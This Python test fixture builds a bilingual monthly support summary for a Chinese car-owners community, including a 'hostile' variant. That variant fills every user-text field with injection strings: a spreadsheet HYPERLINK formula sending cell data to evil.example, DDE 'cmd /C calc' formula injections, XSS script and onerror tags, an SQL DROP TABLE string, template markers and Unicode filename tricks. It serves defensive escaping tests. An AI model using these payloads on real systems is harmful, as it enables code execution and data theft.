"""A month as a director sees it, put together by hand: rich, the same at every call, in both languages."""

from dataclasses import replace
from datetime import UTC, datetime

from app.domain.cases import CaseId
from app.domain.summary import CaseLink, Frozen, Person, Section, Sentences, Summary, Table
from app.domain.words import Words
from tests import summaries_parts as parts
from tests.summaries_parts import NAME, OCTOBER

__all__ = ["CLOSED_AT", "HEAD", "HOSTILE", "NAME", "OCTOBER", "empty", "hostile", "open_month", "summary"]

CLOSED_AT = datetime(2026, 11, 2, 1, 30, tzinfo=UTC)
"""In Shanghai it is half past nine in the morning."""

HEAD = "9f2c41d07b6e5a83c1d94e20fa7b3c6d58e1f09a2b4c7d8e6f5a3b1c0d9e8f7a"

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+86 138 0000 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "<script>alert(1)</script><img src=http://evil.example/x.png onerror=alert(1)>",
    '"; DROP TABLE cases; --, "quoted", and a comma',
    "\u202egnp.exe\u202c\u0000\x07 zero\u200bwidth",
    "https://evil.example/login",
    "{{ 7*7 }} {% include 'x' %} ]]> &amp; </style>",
    "A" * 400,
)
"""What members write that a spreadsheet, a browser or a layout might take for something else."""


def summary(*, closed: bool = True) -> Summary:
    """October 2026 of the owners of a brand; the same figures at every call."""
    return Summary(
        month=OCTOBER,
        community="远山车友社区",
        zone="Asia/Shanghai",
        reckoned_at=CLOSED_AT,
        over=True,
        sentences=Sentences(
            Words(
                "首次答复的中位时间从 96 分钟降到 58 分钟，两小时内答复的占 88%。",
                "The median first answer came after 58 minutes, down from 96; 88% came within two hours.",
            ),
            Words(
                "逾期的承诺从 2 项增加到 5 项，其中 3 项在售后服务部。",
                "Late promises rose from 2 to 5, three of them with after-sales service.",
            ),
            Words(
                "请电池部门在 11 月 20 日前给出冬季续航的分温度数据：本月 41 件工单都在问。",
                "Please have the battery department publish winter range by temperature before 20 November: "
                "41 cases of this month ask for it.",
            ),
        ),
        sections=parts.each(),
        entries=48_213,
        head=HEAD,
        frozen=Frozen(CLOSED_AT, "林主管", 48_213, HEAD) if closed else None,
    )


def open_month() -> Summary:
    """The same month before anybody closed it, still going on."""
    return replace(summary(closed=False), over=False)


def hostile() -> Summary:
    """The same month, with every place that holds what people wrote filled with what might do harm."""
    rows = tuple(
        (CaseLink(CaseId(text)), text, Person(text, Words(text, text)), index) for index, text in enumerate(HOSTILE)
    )
    columns = (Words("工单", "Case"), Words("内容", "Text"), Words("成员", "Member"), Words("第几", "Which"))
    table = Table("hostile", Words("有害的内容", "Harmful texts"), columns, rows)
    section = Section("hostile", Words(HOSTILE[0], HOSTILE[0]), tables=(table,), note=Words(HOSTILE[7], HOSTILE[7]))
    whole = summary()
    return replace(
        whole,
        community=HOSTILE[0] + HOSTILE[7],
        sentences=Sentences(*(Words(HOSTILE[at], HOSTILE[at]) for at in (0, 7, 11))),
        sections=(section, *whole.sections),
        frozen=replace(whole.frozen, by=HOSTILE[7]) if whole.frozen else None,
    )


def empty() -> Summary:
    """A month of a community where nothing happened yet: no figure could be reckoned."""
    whole = summary(closed=False)
    return replace(whole, sections=tuple(_emptied(section) for section in whole.sections))


def _emptied(section: Section) -> Section:
    return replace(
        section,
        numbers=tuple(replace(one, value=None, before=None, late=0) for one in section.numbers),
        charts=tuple(
            replace(one, series=tuple(replace(row, values=(None,) * len(row.values)) for row in one.series))
            for one in section.charts
        ),
        tables=tuple(replace(one, rows=()) for one in section.tables),
    )
